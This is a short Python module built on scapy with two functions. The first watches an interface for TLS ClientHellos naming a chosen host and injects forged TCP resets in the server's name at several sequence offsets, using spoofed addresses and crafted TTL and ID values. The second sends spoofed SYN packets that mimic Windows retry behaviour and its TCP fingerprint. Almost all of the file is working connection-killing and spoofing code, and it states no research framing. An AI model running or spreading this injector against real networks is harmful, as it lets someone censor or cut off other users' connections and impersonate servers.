"""Packets no kernel would send: forged resets, and the SYN behaviour of another operating system."""

import time


def inject_resets(device, name, ahead=(0, 1460, 4380)):
    """Watches a device; a ClientHello with `name` draws resets in the server's name, beside the real traffic.

    `ahead` says how far beyond the next expected byte each of them claims to be."""
    from scapy.all import IP, TCP, Ether, conf, sniff

    wire = conf.L2socket(iface=device)  # opened once: the resets must be faster than the server

    def answer(frame):
        if name not in bytes(frame[TCP].payload):
            return
        for distance in ahead:
            reset = TCP(sport=frame[TCP].dport, dport=frame[TCP].sport, flags="RA", window=0x1000,
                        seq=frame[TCP].ack + distance, ack=frame[TCP].seq + len(frame[TCP].payload))
            wire.send(Ether(src=frame[Ether].dst, dst=frame[Ether].src)
                      / IP(src=frame[IP].dst, dst=frame[IP].src, ttl=47, id=0x1234) / reset)

    sniff(iface=device, filter="tcp dst port 443", prn=answer, store=False)


def windows_connect(source, address, port, tries=5, step=0.5):
    """A connect as Windows does it when refused: the SYN again, on the same ports, half a second after each reset."""
    from scapy.all import IP, TCP, send

    options = [("MSS", 1460), ("NOP", None), ("WScale", 8), ("NOP", None), ("NOP", None), ("SAckOK", b"")]
    for number in range(tries):
        send(IP(src=source, dst=address, ttl=128, id=0x5A00 + number, flags="DF")
             / TCP(sport=50123, dport=port, flags="S", seq=0x1F2E3D4C, window=64240, options=options), verbose=False)
        time.sleep(step)
    return tries
